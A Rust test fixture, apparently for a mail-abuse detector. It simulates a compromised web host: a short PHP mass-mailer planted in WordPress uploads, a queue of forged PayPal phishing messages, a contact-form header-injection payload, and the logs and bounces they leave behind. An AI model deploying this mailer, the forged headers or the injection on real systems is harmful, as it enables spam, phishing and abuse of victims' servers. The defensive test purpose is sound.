//! A spam storm in the fake host's Postfix queue, as a PHP mailer uploaded to a
//! WordPress site leaves it: 120 deferred messages submitted by www-data through
//! `X-PHP-Originating-Script: 33:wp-conf.php`, 60 recipients each, posing as PayPal
//! with a fake relay header, an old Date, a spam tool's X-Mailer, refused as
//! blacklisted; a contact form abused by header injection; PHP's mail.log naming the
//! script; and www-data's mailbox filling with bounces.

use crate::clean_mail::{EPOCH, rfc2822};
use crate::mailqueue::{PostfixMessage, postfix_defer_log, postfix_queue_file};
use crate::{Expect, FakeHost};

pub const SCRIPT: &str = "/var/www/html/wp-content/uploads/2024/05/wp-conf.php";
pub const SPOOL: &str = "/var/spool/postfix";
const STORM: usize = 120;
const RECIPIENTS: usize = 60;
const VICTIM_DOMAINS: &[&str] = &["yahoo.com", "hotmail.com", "aol.com", "gmx.de", "mail.ru"];

pub fn plant(h: &FakeHost) -> Vec<Expect> {
    h.write(
        SCRIPT,
        "<?php\n$l = explode(\"\\n\", base64_decode($_POST['l']));\nforeach ($l as $to) {\n\
         \tmail($to, $_POST['s'], base64_decode($_POST['b']), \"From: {$_POST['f']}\\r\\nX-Mailer: Leaf PHPMailer 2.8\");\n}\n",
    );
    let start = EPOCH + 86_400;
    let reason = "host mx.example-victims.net[203.0.113.25] said: 554 5.7.1 Service unavailable; Client host [192.0.2.10] blocked using zen.spamhaus.org (in reply to RCPT TO command)";
    let mut log = String::new();
    for i in 0..STORM {
        let id = format!("{:X}{:09X}", 0xA + i % 6, 0x1000 + i);
        let arrival = start + i as i64 * 7;
        let recipients: Vec<String> = (0..RECIPIENTS)
            .map(|r| {
                format!(
                    "user{}@{}",
                    i * RECIPIENTS + r,
                    VICTIM_DOMAINS[r % VICTIM_DOMAINS.len()]
                )
            })
            .collect();
        let headers = vec![
            format!(
                "Received: by web01.example.com (Postfix, from userid 33)\n\tid {id}; {}",
                rfc2822(arrival)
            ),
            format!(
                "Received: from mail.paypal.com (mail.paypal.com [66.211.168.1])\n\tby mx1.paypal.com with ESMTP id {i}; {}",
                rfc2822(arrival - 3 * 86_400)
            ),
            "From: \"PayPal Service\" <service@paypal.com>".to_string(),
            "Reply-To: secure-center@paypal-resolution.example".to_string(),
            format!("To: {}", recipients[0]),
            "Subject: =?UTF-8?B?WW91ciBhY2NvdW50IGhhcyBiZWVuIGxpbWl0ZWQg4pqg?=".to_string(),
            "X-PHP-Originating-Script: 33:wp-conf.php".to_string(),
            "X-Mailer: Leaf PHPMailer 2.8 (leafmailer.pw)".to_string(),
            format!("Message-ID: <{:x}.{i}@paypal.com>", arrival),
            format!("Date: {}", rfc2822(arrival - 5 * 86_400)),
            "MIME-Version: 1.0".to_string(),
            "Content-Type: text/html; charset=UTF-8".to_string(),
        ];
        let m = PostfixMessage {
            arrival,
            sender: "www-data@web01.example.com".to_string(),
            recipients: recipients.clone(),
            headers,
            body: "<p>Please confirm your account: <a href=\"http://paypal-resolution.example/\">here</a></p>\n".to_string(),
            local: true,
        };
        let hash = &id[..1];
        h.write(
            &format!("{SPOOL}/deferred/{hash}/{id}"),
            postfix_queue_file(&m),
        );
        h.write(
            &format!("{SPOOL}/defer/{hash}/{id}"),
            postfix_defer_log(&recipients[..3], "5.7.1", reason),
        );
        log.push_str(&format!(
            "[22-Sep-2026 10:{:02}:{:02} UTC] mail() on [{SCRIPT}:4]: To: {} -- Headers: From: \"PayPal Service\" <service@paypal.com>  X-Mailer: Leaf PHPMailer 2.8 -- Subject: Your account has been limited\n",
            i / 60 % 60,
            i % 60,
            recipients[0]
        ));
    }
    h.append("/var/log/php/mail.log", log);
    // A contact form whose Subject carried extra header lines.
    let id = "F1E2D3C4B5";
    let arrival = start + 2_000;
    let m = PostfixMessage {
        arrival,
        sender: "www-data@web01.example.com".to_string(),
        recipients: vec![
            "info@example.com".to_string(),
            "target1@example.net".to_string(),
        ],
        headers: vec![
            format!(
                "Received: by web01.example.com (Postfix, from userid 33)\n\tid {id}; {}",
                rfc2822(arrival)
            ),
            "From: visitor@example.com".to_string(),
            "To: info@example.com".to_string(),
            "Subject: Contact form message\n bcc: target1@example.net, target2@example.net"
                .to_string(),
            "X-PHP-Originating-Script: 33:send.php".to_string(),
            format!("Date: {}", rfc2822(arrival)),
        ],
        body: "hello\n".to_string(),
        local: true,
    };
    h.write(&format!("{SPOOL}/deferred/F/{id}"), postfix_queue_file(&m));
    // www-data's mailbox: the bounces of the storm.
    let mut mbox = String::new();
    for i in 0..40 {
        let t = start + 600 + i * 60;
        mbox.push_str(&format!(
            "From MAILER-DAEMON  Tue Sep 22 1{}:{:02}:00 2026\nFrom: MAILER-DAEMON@web01.example.com (Mail Delivery System)\n\
             To: www-data@web01.example.com\nSubject: Undelivered Mail Returned to Sender\nDate: {}\n\
             Content-Type: multipart/report; report-type=delivery-status;\n\tboundary=\"B{i}\"\n\n--B{i}\n\n\
             <user{i}@yahoo.com>: host mx said: 550 5.1.1 unknown user\n\n--B{i}\nContent-Type: message/rfc822\n\n\
             From: \"PayPal Service\" <service@paypal.com>\nX-PHP-Originating-Script: 33:wp-conf.php\n\n--B{i}--\n\n",
            i / 60,
            i % 60,
            rfc2822(t)
        ));
    }
    h.write("/var/mail/www-data", mbox);
    let at_spool = [
        "mail.queue-size",
        "mail.queue-growth",
        "mail.deferred-share",
        "mail.many-recipients",
        "mail.dominant-sender",
        "mail.dominant-uid",
        "mail.web-uid",
        "mail.same-subject",
        "mail.blacklisted",
        "mail.forged-from",
        "mail.message-id-domain",
        "mail.forged-received",
        "mail.date-skew",
        "mail.bulk-mailer",
        "mail.header-injection",
    ];
    let mut e: Vec<Expect> = at_spool.iter().map(|r| Expect::new(r, SPOOL)).collect();
    e.push(Expect::new("mail.sending-script", SCRIPT));
    e.push(Expect::new("mail.backscatter", "/var/mail/www-data"));
    e
}
